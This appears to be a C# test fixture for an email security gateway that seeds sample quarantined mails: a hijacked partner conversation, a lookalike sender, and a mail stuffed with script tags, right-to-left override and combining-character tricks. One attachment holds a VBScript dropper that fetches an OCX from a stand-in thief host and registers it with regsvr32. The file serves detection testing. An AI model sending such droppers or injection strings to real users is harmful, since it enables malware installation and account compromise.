using System.Globalization;
using System.IO.Compression;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using Postvakt.Access;
using Postvakt.Advisories;
using Postvakt.Audit;
using Postvakt.Detection;
using Postvakt.Facts;
using Postvakt.Indicators;
using Postvakt.Intake;
using Postvakt.Intake.Ledger;
using Postvakt.Memory;
using Postvakt.Messages;
using Postvakt.Quarantine;
using Postvakt.Registers;
using Postvakt.Server.Installations;
using Postvakt.Storage.Sqlite;
using Postvakt.Storage.Vaults;
using Postvakt.UserReports;

namespace Postvakt.Web.Tests.Support;

/// <summary>A conversation that a thief broke into, an employee with mail, reports and a warning, and mails for two people to decide on.</summary>
internal static class MailStock
{
    /// <summary>A reply from a partner's own account, unlike him; one by a stranger under his name; mails of the employee; mails that a lock-down covers; one that two delete at once; one that was delivered.</summary>
    public const string Hijack = "feed0000000000a1", Foreign = "feed0000000000a2", Hostile = "feed0000000000a3", Own = "feed0000000000a4", OwnToo = "feed0000000000a5", Locked = "feed0000000000a6", LockedToo = "feed0000000000a7", Race = "feed0000000000a8", Delivered = "feed0000000000a9";

    public const string Employee = "dana@lovhaga.example", LockedCampaign = "files lamp", EndedReport = "You were right: it is malicious, and it was held";

    private const string Bo = "bo.dahl@partner.example", Anna = "reader1@lovhaga.example", Host = "files.thief.example";

    public static void Fill(string data)
    {
        var keys = KeyRing.Open(KeyRing.Resolve(data), mayCreate: false);
        using var ledger = new SqliteLedger(new SqliteMemory(Path.Combine(data, DataDirectory.MemoryName), keys.Fingerprint, MemoryOptions.Default), LedgerOptions.Default);
        var now = TimeProvider.System.GetUtcNow();
        var place = new Place(ledger, new FileVault(Path.Combine(data, "held"), keys.Seal), keys, new Judge(keys.Fingerprint, ledger.Memory, new JudgeOptions { OrgDomains = ["lovhaga.example"] }, HijackModel.Default(), TimeProvider.System), now);
        var parser = new MessageParser(MessageLimits.Default);
        for (var i = 0; i < 8; i++)
        {
            var (at, ours) = (now - TimeSpan.FromDays(40 - i * 2), i % 2 == 1);
            var letter = Letter($"lamps{i}", ours ? Anna : Bo, ours ? "Anna Berg" : "Bo Dahl", ours ? Bo : Anna, "Re: lamps of spring", i == 0 ? "" : $"lamps{i - 1}", at, ours ? "Kontoret 4" : "PartnerMail 2", "+0100", $"Dear friend,\r\n\r\nthe {i + 12} lamps of series {i + 3} will stand in the window of the shop in the week after the fair, as we said on the telephone.\r\n");
            place.Judge.Learn(parser.Parse(new ReceivedMail("history", i, new MemoryStream(letter), Envelope.Unknown, at)));
        }
        ledger.Memory.Commit();

        place.Hold(Hijack, "Re: lamps of spring", Letter("aa1", Bo, "Bo Dahl", Anna, "Re: lamps of spring", "lamps7", now, "Swift Sender 9", "-0800", $"The list of lamps is here: http://{Host}/lamp/4711 and the file is attached.\r\n\r\nOn that day Anna Berg wrote:\r\n> the 19 lamps of series 10 will stand in the window of the shop in the week after the fair, as we said on the telephone.\r\n", Zip()), Bo, [Anna]);
        place.Hold(Foreign, "Re: lamps of spring", Letter("aa2", "b.dahl@elsewhere.example", "Bo Dahl", Anna, "Re: lamps of spring", "lamps7", now, "", "+0000", $"Please look: http://{Host}/lamp/4712\r\n"), "b.dahl@elsewhere.example", [Anna]);
        // Everything that means ill at once: markup, direction, a tower of marks, one line of megabytes.
        place.Hold(Hostile, "\u202Egnp.exe\u202C Z" + new string('\u0301', 60) + " " + Stock.Markup, Letter("aa3", "<script>alert(1)</script>@thief.example", "\u202EhctiM Z" + new string('\u0301', 60) + Stock.Markup, Anna, "Re: " + Stock.Markup, "lamps7", now, "<b>client</b>", "+0000", Stock.Markup + "\u202Etxet\r\n" + new string('x', 5 << 20) + "\r\n"), "\"<script>alert(1)</script>\"@thief.example", [Anna]);
        place.Hold(Own, "Re: window display", Letter("aa4", Anna, "Anna Berg", Employee, "Re: window display", "", now, "", "+0000", "Please see the display.\r\n"), Anna, [Employee]);
        place.Hold(OwnToo, "\u202Egnp.exe <b>bold</b>", Letter("aa5", "sender@outside.example", "Sender", "shop@lovhaga.example", "Hello", "", now, "", "+0000", "Hello.\r\n"), "sender@outside.example", ["shop@lovhaga.example"]);
        foreach (var id in (string[])[Locked, LockedToo]) place.Hold(id, "Re: lamp of " + id[^1], Letter(id, "sender@outside.example", "Sender", Anna, "Re: lamp", "", now, "", "+0000", "The lamp.\r\n"), "sender@outside.example", [Anna], LockedCampaign);
        place.Hold(Race, "Re: both at once", Letter(Race, "sender@outside.example", "Sender", Anna, "Re: both", "", now, "", "+0000", "Both.\r\n"), "sender@outside.example", [Anna]);
        place.Deliver(Delivered, "Lunch on Friday", Letter("aa9", Bo, "Bo Dahl", Anna, "Lunch on Friday", "", now, "PartnerMail 2", "+0100", "Lunch on Friday?\r\n"), Bo, [Anna]);
        People(ledger, now);
        ledger.Commit();
    }

    private static void People(SqliteLedger ledger, DateTimeOffset now)
    {
        string Id(string kind) => TimedId.New(kind, now);
        var report = new UserReport { Id = Id("report"), Submission = "one", Index = 0, At = now - TimeSpan.FromDays(1), Reporter = Employee, Way = ReportWay.AddIn, State = ReportState.Answered, Outcome = ReportOutcome.Held, Record = Own, Author = "thief@outside.example", ClosedAt = now };
        var other = report with { Id = Id("report"), Submission = "two", Reporter = Anna, Author = "secret@outside.example" };
        var advisory = new Advisory { Id = Id("advisory"), Group = "stores", Records = [Hijack], Clues = [AdvisoryClue.Conversation, AdvisoryClue.NumberLink], Note = "Ask <b>by telephone</b>.", State = AdvisoryState.Sent, DraftedBy = "user:robin", DraftedAt = now, Until = now + TimeSpan.FromDays(1) };
        ledger.Decide(new Decision(AuditEvent.Of(now, Actor.System("test"), "stock", "", "", AuditEvent.Done))
        {
            Register =
            [
                new RegisterChange(Account.Kind, Employee, JsonSerializer.Serialize(new Account(Employee, Role.Employee, now)), 0), report.Change(0, "h1"), other.Change(0, "h2"),
                new RegisterChange(Advisory.Kind, advisory.Id, JsonSerializer.Serialize(advisory), 0) { Keys = [Advisory.ActiveKey] },
            ],
        }, now);
    }

    private static byte[] Letter(string id, string from, string name, string to, string subject, string answers, DateTimeOffset at, string program, string zone, string text, byte[]? file = null)
    {
        var date = at.ToOffset(TimeSpan.ParseExact(zone[1..], "hhmm", CultureInfo.InvariantCulture) * (zone[0] == '-' ? -1 : 1)).ToString("ddd, dd MMM yyyy HH:mm:ss ", CultureInfo.InvariantCulture) + zone;
        var head = $"Message-ID: <{id}@mail.example>\r\nFrom: \"{name.Replace("\"", "", StringComparison.Ordinal)}\" <{from}>\r\nTo: <{to}>\r\nDate: {date}\r\nSubject: {subject}\r\n{(answers.Length > 0 ? $"In-Reply-To: <{answers}@mail.example>\r\n" : "")}{(program.Length > 0 ? $"X-Mailer: {program}\r\n" : "")}MIME-Version: 1.0\r\n";
        return Encoding.UTF8.GetBytes(file is null ? $"{head}Content-Type: text/plain; charset=utf-8\r\n\r\n{text}"
            : $"{head}Content-Type: multipart/mixed; boundary=edge\r\n\r\n--edge\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n--edge\r\nContent-Type: application/zip; name=charts.zip\r\nContent-Disposition: attachment; filename=charts.zip\r\nContent-Transfer-Encoding: base64\r\n\r\n{Convert.ToBase64String(file, Base64FormattingOptions.InsertLineBreaks)}\r\n--edge--\r\n");
    }

    /// <summary>A script that would fetch and start something that there is nowhere.</summary>
    private static byte[] Zip()
    {
        using var bytes = new MemoryStream();
        using (var zip = new ZipArchive(bytes, ZipArchiveMode.Create))
        using (var entry = zip.CreateEntry("charts <i>new</i>.vbs").Open())
            entry.Write(Encoding.ASCII.GetBytes("Set web = CreateObject(\"MSXML2.XMLHTTP\")\r\nweb.Open \"GET\", \"http://files.thief.example/besta.ocx\", False\r\nweb.Send\r\nCreateObject(\"WScript.Shell\").Run \"regsvr32 C:\\Datop\\besta.ocx\", 0\r\n"));
        return bytes.ToArray();
    }

    private sealed record Place(SqliteLedger Ledger, FileVault Vault, KeyRing Keys, Judge Judge, DateTimeOffset Now)
    {
        public void Hold(string id, string subject, byte[] bytes, string from, string[] to, string campaign = "")
        {
            Vault.Put(id, new MemoryStream(bytes));
            Record(id, subject, bytes, from, to, campaign, Verdict.Malicious, Disposition.Quarantine, new QuarantineItem(id, Now, Now + TimeSpan.FromDays(30), QuarantineState.Held, "bounce@mx.outside.example", to, bytes.Length));
        }

        public void Deliver(string id, string subject, byte[] bytes, string from, string[] to) => Record(id, subject, bytes, from, to, "", Verdict.Clean, Disposition.Deliver, null);

        private void Record(string id, string subject, byte[] bytes, string from, string[] to, string campaign, Verdict verdict, Disposition done, QuarantineItem? held)
        {
            var envelope = new Envelope("192.0.2.1", "mx.outside.example", "bounce@mx.outside.example", to);
            var judgement = Judge.Examine(new MessageParser(MessageLimits.Default).Parse(new ReceivedMail(id, 0, new MemoryStream(bytes), envelope, Now)));
            var bad = verdict == Verdict.Malicious;
            Finding[] findings = bad ? [new("new-host-in-reply", "A reply brings a link to a host that nobody here had linked to.", Severity.Critical, "detector", [], []), .. judgement.Findings.Select(f => f with { Evidence = [] })] : [];
            var evidence = judgement.Findings.DistinctBy(f => f.Id).ToDictionary(f => f.Id, f => (object)f.Evidence.Select(e => new { where = e.Where, text = e.Text }));
            // As the gateway writes it: what a mail shares with its campaign lies beside the evidence.
            evidence["$traits"] = new[] { "Link:" + Host + "/lamp/N" };
            evidence["new-host-in-reply"] = new[] { new { where = "text, line 1", text = $"http://{Host}/lamp/4711" } };
            Indicator[] indicators = bad && to[0] == Anna && campaign.Length == 0 ? [new("host", Host), new("url", $"http://{Host}/lamp/4711")] : [];
            Ledger.Record(new LedgerEntry
            {
                Org = "default", Answer = new StoredAnswer(id, verdict, done, bad ? 0.97 : 0.01, bad ? "It brings a link to a host that nobody here had linked to, into a conversation that was silent." : ""), At = Now, Listener = "milter",
                RepeatKey = SHA256.HashData(Encoding.ASCII.GetBytes(id)), Digest = SHA256.HashData(bytes), Size = bytes.Length, MessageId = id + "@mail.example", Envelope = envelope, From = from.ToLowerInvariant(),
                SealedSubject = Keys.Seal.Seal(subject, "subject:" + id), Intended = done, SealedEvidence = bad ? Keys.Seal.Seal(JsonSerializer.Serialize(evidence), "evidence:" + id) : null, Indicators = indicators, Campaign = campaign,
                Findings = [.. findings.DistinctBy(f => f.Id)], Held = held, Terms = Keys.Terms.Of(from, "bounce@mx.outside.example", to, subject, id + "@mail.example", campaign, indicators.Select(i => i.Value)),
            }, Judge.ExperienceOf(judgement) with { Standing = bad ? Standing.Bad : Standing.Quiet }, out _);
        }
    }
}
